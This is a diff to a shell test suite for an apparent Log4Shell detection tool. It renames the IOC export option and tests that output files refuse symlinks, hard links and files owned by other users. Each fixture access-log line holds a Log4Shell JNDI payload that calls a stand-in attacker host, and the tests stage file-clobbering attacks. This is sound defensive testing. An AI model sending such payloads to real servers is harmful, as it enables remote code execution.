@@ -381,9 +381,9 @@ PY
 }
 
 # ---------------------------------------------------------------------------
-# 7.5: -o FILE and --iocs FILE were opened with fopen(FILE, "w"): a symlink
+# 7.5: -o FILE and --export-iocs FILE were opened with fopen(FILE, "w"): a symlink
 # there truncated and rewrote its target.
-@test "7.5 -o and --iocs refuse a symlink at FILE (to the victim, or dangling)" {
+@test "7.5 -o and --export-iocs refuse a symlink at FILE (to the victim, or dangling)" {
     mkdir -m 755 "$T/scan" "$T/logs"
     cp "$VULN" "$T/scan/a.jar"
     printf '%s\n' '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://x.evil.example:1389/a} HTTP/1.1" 200 5 "-" "curl/7.0"' >"$T/logs/access.log"
@@ -396,13 +396,13 @@ PY
     [ "$status" -eq 2 ]
     [ -n "$stderr" ]
     [ "$(readlink "$A/out.json")" = "$V/shadow" ]
-    run --separate-stderr k logs --iocs "$A/iocs.csv" "$T/logs"
-    echo "--iocs symlink: $status $output $stderr"
+    run --separate-stderr k logs --export-iocs "$A/iocs.csv" "$T/logs"
+    echo "--export-iocs symlink: $status $output $stderr"
     assert_victim_intact
     [ "$status" -eq 2 ]
     [ -n "$stderr" ]
-    run --separate-stderr k logs --iocs "$A/dangling.csv" "$T/logs"
-    echo "--iocs dangling: $status $output $stderr"
+    run --separate-stderr k logs --export-iocs "$A/dangling.csv" "$T/logs"
+    echo "--export-iocs dangling: $status $output $stderr"
     [ "$status" -eq 2 ]
     [ "$(ls -A "$V")" = "shadow" ]
     run --separate-stderr k scan -o "$A/dangling.csv" "$T/scan"
@@ -414,7 +414,7 @@ PY
 # 7.5: a hard link to a file of someone else's (made by root here:
 # protected_hardlinks stops the attacker, not every system has it), or a
 # file the attacker owns, is refused too; /dev/null and a new file work.
-@test "7.5 -o and --iocs refuse a hard link or another user's file; /dev/null and a new file work" {
+@test "7.5 -o and --export-iocs refuse a hard link or another user's file; /dev/null and a new file work" {
     mkdir -m 755 "$T/scan" "$T/logs"
     cp "$VULN" "$T/scan/a.jar"
     printf '%s\n' '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://x.evil.example:1389/a} HTTP/1.1" 200 5 "-" "curl/7.0"' >"$T/logs/access.log"
@@ -425,8 +425,8 @@ PY
     assert_victim_intact
     [ "$status" -eq 2 ]
     [ -n "$stderr" ]
-    run --separate-stderr k logs --iocs "$A/out.json" "$T/logs"
-    echo "--iocs hard link: $status $output $stderr"
+    run --separate-stderr k logs --export-iocs "$A/out.json" "$T/logs"
+    echo "--export-iocs hard link: $status $output $stderr"
     assert_victim_intact
     [ "$status" -eq 2 ]
     rm "$A/out.json"
@@ -439,8 +439,8 @@ PY
     echo "-o other owner: $status $output $stderr"
     assert_same_state "$A/mine.csv" "$mine"
     [ "$status" -eq 2 ]
-    run --separate-stderr k logs --iocs "$A/mine.csv" "$T/logs"
-    echo "--iocs other owner: $status $output $stderr"
+    run --separate-stderr k logs --export-iocs "$A/mine.csv" "$T/logs"
+    echo "--export-iocs other owner: $status $output $stderr"
     assert_same_state "$A/mine.csv" "$mine"
     [ "$status" -eq 2 ]
     # controls
@@ -450,10 +450,10 @@ PY
     run --separate-stderr k scan --json -o "$T/new.json" "$T/scan"
     [ "$status" -eq 1 ]
     [ "$(count_alerts <"$T/new.json")" -eq 1 ]
-    run --separate-stderr k logs --iocs "$T/new.csv" "$T/logs"
+    run --separate-stderr k logs --export-iocs "$T/new.csv" "$T/logs"
     [ "$status" -eq 1 ]
     grep -q '^"host","x.evil.example"' "$T/new.csv"
-    run --separate-stderr k logs --iocs /dev/null "$T/logs"
+    run --separate-stderr k logs --export-iocs /dev/null "$T/logs"
     [ "$status" -eq 1 ]
     assert_victim_intact
 }
